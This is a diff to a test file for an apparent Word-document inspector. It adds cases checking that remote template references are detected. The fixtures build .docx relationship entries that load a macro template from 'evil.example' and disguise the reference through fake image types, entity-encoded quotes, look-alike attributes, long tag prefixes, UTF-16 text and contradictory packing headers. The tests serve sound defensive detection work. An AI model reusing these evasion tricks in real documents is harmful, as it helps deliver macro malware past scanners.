@@ -226,13 +226,23 @@ describe('an archive made to mislead', () => {
   })
 })
 
-test('lists of parts made to be read for hours are read in a moment, and taken for hiding something', async () => {
-  const endless = '<Relationship '.repeat(70_000)
-  const began = performance.now()
-  const found = await inspect(aDocx({ name: 'word/_rels/endless.rels', content: endless }), 'docx')
-  expect(performance.now() - began).toBeLessThan(1000)
-  expect(found).toEqual({ ok: true, warnings: ['remote'] })
-})
+test.each([
+  ['of beginnings of tags', '<Relationship '],
+  ['of prefixes', '<a:Relationship:'],
+  ['of attributes', '<Relationship a="'],
+])(
+  'a list of parts %s without an end is read in a moment, and taken for hiding something',
+  async (_what, piece) => {
+    const endless = piece.repeat(60_000)
+    const began = performance.now()
+    const found = await inspect(
+      aDocx({ name: 'word/_rels/endless.rels', content: endless }),
+      'docx',
+    )
+    expect(performance.now() - began).toBeLessThan(1000)
+    expect(found).toEqual({ ok: true, warnings: ['remote'] })
+  },
+)
 
 test('a template from elsewhere is not taken for a picture because its address ends like one', async () => {
   const template = `<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate"
@@ -240,6 +250,70 @@ test('a template from elsewhere is not taken for a picture because its address e
   expect(
     await inspect(aDocx({ name: 'word/_rels/settings.xml.rels', content: template }), 'docx'),
   ).toEqual({ ok: true, warnings: ['remote'] })
+})
+
+const template = 'Type="http://x/attachedTemplate" TargetMode="External"'
+
+/** The list says how it was packed twice: where it stands, and in the directory. */
+const aDocxThatLiesAboutPacking = (): Buffer => {
+  const list = aLink('attachedTemplate', 'https://evil.example/a.dotm', 'External')
+  const content = aDocx(list)
+  const stands = content.indexOf(list.name) - 30
+  content.writeUInt16LE(0, stands + 8)
+  return content
+}
+
+test.each<[string, Buffer, string[]]>([
+  [
+    'though its address holds the type of a picture',
+    aDocx({
+      name: 'word/_rels/a.rels',
+      content: `<Relationship ${template} Target="https://evil.example/a.dotm?Type='/image'"/>`,
+    }),
+    ['remote'],
+  ],
+  [
+    'though another value holds the type of a link, its marks written as numbers',
+    aDocx({
+      name: 'word/_rels/a.rels',
+      content: `<Relationship Id="r&#34; Type=&#34;x/hyperlink" ${template} Target="https://evil.example/a.dotm"/>`,
+    }),
+    ['remote'],
+  ],
+  [
+    'though another attribute, whose name ends alike, says picture',
+    aDocx({
+      name: 'word/_rels/a.rels',
+      content: `<Relationship x-Type="a/image" ${template} Target="https://evil.example/a.dotm"/>`,
+    }),
+    ['remote'],
+  ],
+  [
+    'in a tag with a prefix of many letters',
+    aDocx({
+      name: 'word/_rels/a.rels',
+      content: `<${'très-'.repeat(20)}p:Relationship ${template} Target="https://evil.example/a.dotm"/>`,
+    }),
+    ['remote'],
+  ],
+  [
+    'in wide letters without their mark',
+    aDocx({
+      name: 'word/_rels/a.rels',
+      content: Buffer.from(
+        `<Relationship ${template} Target="https://evil.example/a.dotm"/>`,
+        'utf16le',
+      ),
+    }),
+    ['remote'],
+  ],
+  [
+    'or suspected in a list that says two ways how it is packed',
+    aDocxThatLiesAboutPacking(),
+    ['macros'],
+  ],
+])('a template from elsewhere is found %s', async (_where, content, warnings) => {
+  expect(await inspect(content, 'docx')).toEqual({ ok: true, warnings })
 })
 
 test('a name made to be read for minutes is cleaned in a moment, with its ending', () => {
